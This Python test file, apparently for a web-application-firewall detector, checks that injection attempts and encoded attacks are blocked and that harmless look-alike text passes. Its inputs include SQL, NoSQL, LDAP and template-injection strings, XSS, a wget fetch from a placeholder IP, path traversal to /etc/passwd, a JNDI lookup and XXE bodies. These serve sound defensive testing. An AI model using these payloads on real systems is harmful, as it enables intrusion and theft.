"""Encodings and constructs found missing while comparing with CRS, and the
scan-context regression of the bundled Hyperscan build."""

from __future__ import annotations

import base64
from urllib.parse import quote, urlencode

import pytest

from dijk.detect.engine import Detector, compiled_patterns
from dijk.detect.findings import RequestParts

DETECTOR = Detector()
PARANOID = Detector(paranoia=2)

# Written for this test (not taken from a corpus): one per rule family.
ATTACKS = [
    "{{config.items()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "1' UNION SELECT password FROM users--",
    "<svg onload=alert(document.domain)>",
    "; wget http://203.0.113.9/x.sh",
    "../../../../etc/passwd",
    "${jndi:ldap://203.0.113.9/a}",
    '{"$where": "sleep(100)"}',
    "*)(uid=*))(|(uid=*",
]
CONTEXTS = ["/api/v1/search", "application/json", "hello world", "/", '{"a": 1}', "x" * 300]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_value_matches_the_same_rules_whatever_values_precede_it(attack: str) -> None:
    patterns = compiled_patterns()
    alone = {pattern for pattern, _, _ in patterns.scan_with_offsets([attack])}
    for context in CONTEXTS:
        hits = patterns.scan_with_offsets([context, attack])
        assert {pattern for pattern, index, _ in hits if index == 1} == alone, context


def search(q: str, detector: Detector = DETECTOR) -> set[str]:
    verdict = detector.inspect(
        RequestParts.from_target("GET", "/api/v1/search?" + urlencode({"q": q}))
    )
    return {finding.rule_id for finding in verdict.findings} if verdict.blocked else set()


def test_template_injection_after_the_path_is_found() -> None:
    assert "ssti-object-traversal" in search("{{config.items()}}")
    assert "ssti-object-traversal" in search("{{ [].class.base.subclasses() }}")


def test_base64_of_text_that_is_all_letters_is_decoded() -> None:
    encoded = base64.b64encode(b"alert.apply(null, [1])").decode()
    assert encoded.rstrip("=").isalpha()
    assert search(encoded)


def test_base64_in_a_long_plain_path_segment_is_decoded() -> None:
    encoded = base64.urlsafe_b64encode(b"javascript:alert(document.domain)").decode()
    target = "/api/v1/accounts/" + encoded.rstrip("=")
    assert DETECTOR.inspect(RequestParts.from_target("GET", target)).blocked


def test_overlong_utf8_in_the_query_is_read_as_old_servers_read_it() -> None:
    target = "/files?name=" + "%c0%ae%c0%ae/" * 4 + "etc/passwd"
    verdict = DETECTOR.inspect(RequestParts.from_target("GET", target))
    assert verdict.blocked
    assert "path_traversal" in verdict.categories


def test_mongodb_comment_operator_in_text_is_nosql_injection() -> None:
    assert search("' } ], $comment:'probe'")


def test_unicode_characters_that_truncate_to_crlf_are_header_injection() -> None:
    target = "/api/v1/accounts/" + quote("\u560dSet-Cookie:session=attacker")
    verdict = DETECTOR.inspect(RequestParts.from_target("GET", target))
    assert "crlf" in verdict.categories


def test_json_functions_after_or_are_sql_injection() -> None:
    assert search("-1') OR JSON_EXTRACT('{\"a\": 1}', '$.a') = 1 AND ('x' LIKE 'x")


def xml(body: bytes, detector: Detector = DETECTOR) -> set[str]:
    request = RequestParts.from_target(
        "POST", "/import", [("Content-Type", "application/xml")], body
    )
    return {finding.rule_id for finding in detector.inspect(request).findings}


def test_schema_includes_and_xinclude_are_xxe() -> None:
    schema = (
        b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        b'<xs:include schemaLocation="http://203.0.113.9/x.xsd"/></xs:schema>'
    )
    assert "xxe-xinclude" in xml(schema)
    xinclude = (
        b'<doc xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="secret.txt" parse="text"/></doc>'
    )
    assert "xxe-xinclude" in xml(xinclude)


def test_remote_schema_location_is_reported_at_paranoia_2() -> None:
    body = (
        b'<order xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        b'xsi:schemaLocation="urn:x http://203.0.113.9/x.xsd"><id>1</id></order>'
    )
    assert "xxe-schema-location" in xml(body, PARANOID)
    assert "xxe-schema-location" not in xml(body)


@pytest.mark.parametrize(
    "text",
    [
        "Amsterdamcentrum",
        "internationalisation",
        "documentation",
        "The $type of a record",
        "Comment: $text is fine",
        "see {{name}} in the template",
    ],
)
def test_look_alikes_of_the_new_checks_pass(text: str) -> None:
    assert not search(text)
